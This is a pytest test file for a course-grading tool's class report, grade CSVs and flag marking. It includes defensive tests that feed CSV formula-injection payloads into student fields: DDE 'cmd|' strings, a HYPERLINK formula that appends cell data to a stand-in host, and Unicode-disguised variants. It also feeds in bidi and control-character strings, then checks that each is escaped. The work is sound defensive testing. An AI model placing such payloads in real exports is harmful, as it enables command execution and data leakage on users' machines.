"""The class report on synthetic results: per-exercise statistics, the CSV and the PNG."""

from __future__ import annotations

import csv
import unicodedata

import pytest

from course_grading.reports import class_report as report
from course_grading.reports.results import ExerciseResult, SubmissionResult

NIE = "NotImplementedError"
ROWS = "AssertionError: each row should sum to 1 along dim=-1"


def submission(student, softmax, mask, assignment="03_attention", msg_softmax=ROWS, msg_mask=NIE):
    return SubmissionResult(
        student,
        assignment,
        [
            ExerciseResult("test_softmax", softmax, 2, "" if softmax == 2 else msg_softmax),
            ExerciseResult("test_causal_mask", mask, 1, "" if mask == 1 else msg_mask),
        ],
    )


@pytest.fixture
def results():
    return [
        submission("ann", 2, 1),
        submission("ben", 2, 0),
        submission("cat", 0, 0),
        submission("dan", 0, 0, msg_softmax=NIE),
        submission("eve", 0, 1, msg_softmax=ROWS),
        SubmissionResult("fay", "03_attention", error="invalid JSON"),
        SubmissionResult("ann", "01_embeddings", [ExerciseResult("test_one_hot", 1, 1)]),
    ]


def test_a_written_answers_comment_is_no_failure_message():
    """The instructor's comment to one student on a written answer given less than full marks
    is not a failure message of the class: the report counts it without quoting it."""
    from course_grading.reports.results import ExerciseResult, SubmissionResult

    graded = [
        SubmissionResult(
            "ann", "a", [ExerciseResult("written", 1.0, 2.0, "Ann: see me after class", manual=True)]
        ),
        SubmissionResult("bob", "a", [ExerciseResult("written", 2.0, 2.0, "", manual=True)]),
    ]
    [row] = report.exercise_stats(graded)
    assert row.common_failures() == [(report.BELOW_FULL_MARKS, 1)]


def test_exercise_stats(results):
    stats = report.exercise_stats(results)
    assert [(s.assignment, s.exercise) for s in stats] == [
        ("01_embeddings", "test_one_hot"),
        ("03_attention", "test_softmax"),
        ("03_attention", "test_causal_mask"),
        ("03_attention", report.GRADING_FAILED),
    ]
    one_hot, softmax, mask, broken = stats
    assert (one_hot.attempts, one_hot.passed, one_hot.pass_rate, one_hot.common_failures()) == (1, 1, 1.0, [])
    assert (softmax.attempts, softmax.passed, softmax.mean_score, softmax.max_score) == (5, 2, 0.8, 2)
    assert softmax.common_failures() == [(ROWS, 2), (NIE, 1)]
    assert (mask.passed, mask.pass_rate) == (2, 0.4) and mask.common_failures() == [(NIE, 3)]
    assert (broken.attempts, broken.common_failures()) == (1, [("invalid JSON", 1)])


def test_report_files(results, tmp_path):
    csv_path, png_path = report.write_report(results, tmp_path)
    assert csv_path == tmp_path / "reports" / "class_report.csv"
    rows = list(csv.DictReader(csv_path.open(encoding="utf-8")))
    assert [r["exercise"] for r in rows] == [
        "test_one_hot",
        "test_softmax",
        "test_causal_mask",
        report.GRADING_FAILED,
    ]
    softmax = rows[1]
    assert (softmax["attempts"], softmax["passed"], softmax["pass_rate"], softmax["mean_score"]) == (
        "5",
        "2",
        "0.400",
        "0.8",
    )
    assert (softmax["failure_1"], softmax["failure_1_count"]) == (ROWS, "2")
    assert (softmax["failure_2"], softmax["failure_2_count"], softmax["failure_3"]) == (NIE, "1", "")
    assert rows[3]["pass_rate"] == "" and rows[3]["failure_1"] == "invalid JSON"
    assert png_path.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and png_path.stat().st_size > 10_000


def test_report_of_nothing_graded(tmp_path):
    csv_path, png_path = report.write_report([SubmissionResult("x", "a", error="boom")], tmp_path)
    assert len(list(csv.reader(csv_path.open()))) == 2 and png_path.is_file()


# --------------------------------------------------------------------------- no cell is a formula

EVIL = [
    '=HYPERLINK("http://example.com","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\tpadded",
    "\rreturn",
    "=1",
]


def _cells(path):
    return [cell for row in csv.reader(path.open(newline="", encoding="utf-8")) for cell in row]


def test_no_csv_cell_is_a_formula(tmp_path):
    from course_grading.grading.red_flags import Flag
    from course_grading.reports.reports_csv import FORMULA_START, safe_cell
    from course_grading.reports.results import write_csv, write_flags_csv

    results = [
        SubmissionResult(
            EVIL[0],
            "03_attention",
            [ExerciseResult("test_softmax", 0, 2, EVIL[1]), ExerciseResult(EVIL[2], 1.5, 2, EVIL[3])],
            flags=[Flag(EVIL[4], EVIL[5])],
        ),
        SubmissionResult("bob", "03_attention", error=EVIL[6]),
    ]
    paths = [
        write_csv(results, tmp_path / "grades.csv"),
        write_flags_csv(results, tmp_path / "flags.csv"),
        report.write_report(results, tmp_path)[0],
    ]
    for path in paths:
        cells = _cells(path)
        assert not [c for c in cells if c.startswith(FORMULA_START)], (path.name, cells)
    grades = list(csv.DictReader((tmp_path / "grades.csv").open(encoding="utf-8")))
    assert grades[0]["student"] == "'" + EVIL[0] and grades[0]["message"] == "'" + EVIL[1]
    assert [g["score"] for g in grades] == ["0", "1.5", ""]  # numbers stay numbers
    assert safe_cell("-1.5") == "-1.5" and safe_cell(-2) == "-2" and safe_cell("-2+3") == "'-2+3"
    assert safe_cell("plain") == "plain" and safe_cell("a=b") == "a=b"


# What a spreadsheet that trims leading spaces (Google Sheets, LibreOffice's "trim spaces")
# or folds compatibility forms reads as a formula: a student id, a tag, an exception message
DISGUISED = [
    ' =HYPERLINK("http://x/?"&A1)',
    "   +cmd|' /C calc'!A0",
    "\u3000=1+1",
    "\xa0@SUM(A1:A9)",
    '\uff1dHYPERLINK("x")',
    "\uff0b1+1",
    "\ufe62cmd",
    "\uff20SUM(A1)",
    "\u2003\uff0d2+3",
]


def test_a_formula_behind_spaces_or_in_a_wide_form_is_no_formula(tmp_path):
    from course_grading.grading.red_flags import Flag
    from course_grading.reports.reports_csv import safe_cell
    from course_grading.reports.results import write_csv, write_flags_csv

    for text in DISGUISED:
        assert safe_cell(text) == "'" + text, text
    assert [safe_cell(t) for t in ("  -2", "-1.5", "a = b", " plain", "")] == [
        "  -2",
        "-1.5",
        "a = b",
        " plain",
        "",
    ]
    results = [
        SubmissionResult(text, "03_attention", [ExerciseResult(text, 0, 2, text)], flags=[Flag(text, text)])
        for text in DISGUISED
    ]
    for path in (
        write_csv(results, tmp_path / "grades.csv"),
        write_flags_csv(results, tmp_path / "flags.csv"),
        report.write_report(results, tmp_path)[0],
    ):
        for cell in _cells(path):
            plain = unicodedata.normalize("NFKC", cell.lstrip())
            assert not plain.startswith(("=", "+", "@")) and not plain.startswith("-2+"), (path.name, cell)


def test_export_has_no_formula_and_says_what_is_not_a_grade(tmp_path):
    from nbgrader.api import Gradebook

    from conftest import make_course, tiny_notebook
    from course_grading.reports.grade_exports import export
    from course_grading.reports.reports_csv import FORMULA_START

    course = make_course(tmp_path / "course", {"01_tiny": tiny_notebook()})
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", "attention-course") as gb:
        gb.add_assignment("01_tiny")
        gb.add_student(EVIL[0], first_name=EVIL[3], email="a@example.com")
    path = export(course, tmp_path / "export.csv", "nbgrader").path
    assert not [c for c in _cells(path) if c.startswith(FORMULA_START)]
    [row] = list(csv.DictReader(path.open(encoding="utf-8")))
    assert (row["student_id"], row["first_name"], row["score"], row["note"]) == (
        "'" + EVIL[0],
        "'" + EVIL[3],
        "0.0",
        "not submitted",
    )


HOSTILE = [
    "lone \udcff surrogate",
    "bidi \u202eevil\u202c and \u2066isolate\u2069",
    "nul \x00 esc \x1b[31m red",
    "line\nbreak\rreturn\u2028sep",
    "zero\u200bwidth \ufeff bom",
    "x" * 100_000,
    "=cmd|' /C calc'!A0 \udcff",
]


def test_reports_are_written_whatever_the_text(tmp_path, capsys):
    """Lone surrogates, controls, bidi overrides, huge strings in every field a student can
    reach: grades.csv, flags.csv, the class report (CSV and PNG) and the printed table are all
    written, as strict UTF-8, with each such character escaped and each text cut; every other
    row, and every other student's flag, is there."""
    from course_grading.grading.red_flags import Flag
    from course_grading.reports.reports_csv import MAX_TEXT, clean
    from course_grading.reports.results import format_flags, format_table, write_csv, write_flags_csv

    results = [
        SubmissionResult(
            text,
            "03_attention",
            [ExerciseResult("test_softmax", 0, 2, text), ExerciseResult(text, 1, 1)],
            flags=[Flag(text, f"tagged {text}")],
        )
        for text in HOSTILE
    ]
    results += [SubmissionResult(f"student{i}", text, error=text) for i, text in enumerate(HOSTILE)]
    results.append(
        SubmissionResult(
            "accomplice",
            "03_attention",
            [ExerciseResult("test_softmax", 2, 2)],
            flags=[Flag("test_softmax", "patches the checks")],
        )
    )
    paths = [
        write_csv(results, tmp_path / "grades.csv"),
        write_flags_csv(results, tmp_path / "flags.csv"),
        *report.write_report(results, tmp_path),
    ]
    printed = format_table(results) + "\n" + format_flags(results)
    for path in paths[:3]:
        text = path.read_bytes().decode("utf-8")  # strict: no surrogate got through
        cells = _cells(path)
        assert all(len(c) <= MAX_TEXT + 2 for c in cells), path.name
        for shown in (text, printed):
            assert not [
                ch
                for ch in shown
                if ch in "\x00\x1b\u202e\u2066\u200b\ufeff\u2028" or 0xD800 <= ord(ch) < 0xE000
            ]
    assert paths[3].stat().st_size > 1000  # the picture
    printed.encode("utf-8")
    flags = list(csv.DictReader((tmp_path / "flags.csv").open(encoding="utf-8")))
    assert len(flags) == len(HOSTILE) + 1 and flags[-1]["student"] == "accomplice"
    assert (
        "lone \\udcff surrogate" in printed and "bidi \\u202eevil" in printed and "esc \\x1b[31m" in printed
    )
    assert (
        clean("a\tb\nc") == "a\\tb\\nc"
        and clean("é 😀 ok") == "é 😀 ok"
        and clean("x" * 50, 10) == "x" * 10 + "…"
    )
    grades = list(csv.DictReader((tmp_path / "grades.csv").open(encoding="utf-8")))
    assert grades[-1]["student"] == "accomplice" and grades[-1]["score"] == "2"
    assert [g["student"] for g in grades].count(
        "'=cmd|' /C calc'!A0 \\udcff"
    ) == 2  # escaped, and not a formula


def test_a_flagged_score_is_marked_where_the_score_is(tmp_path):
    """A flag changes no score, but the score it is about says so: in the printed table and in
    grades.csv, beside the points."""
    from course_grading.grading.red_flags import Flag
    from course_grading.reports.results import format_table, write_csv

    reason = "audit disagrees with the autograded score: softmax ran aten::_softmax (cell softmax, line 4)"
    results = [
        SubmissionResult(
            "mal",
            "03_attention",
            [ExerciseResult("test_softmax", 2, 2), ExerciseResult("test_causal_mask", 0, 1, NIE)],
            flags=[Flag("test_softmax", reason)],
        ),
        submission("ann", 2, 1),
    ]
    table = format_table(results)
    mal, ann = (next(line for line in table.splitlines() if line.startswith(s)) for s in ("mal", "ann"))
    assert "2/2 !" in mal and "0/1 !" not in mal and "!" not in ann and "the score is as graded" in table
    rows = {
        (r["student"], r["exercise"]): r
        for r in csv.DictReader(write_csv(results, tmp_path / "g.csv").open())
    }
    assert rows[("mal", "test_softmax")]["score"] == "2"
    assert rows[("mal", "test_softmax")]["message"] == f"flagged: {reason}"
    assert (
        rows[("mal", "test_causal_mask")]["message"] == NIE and rows[("ann", "test_softmax")]["message"] == ""
    )
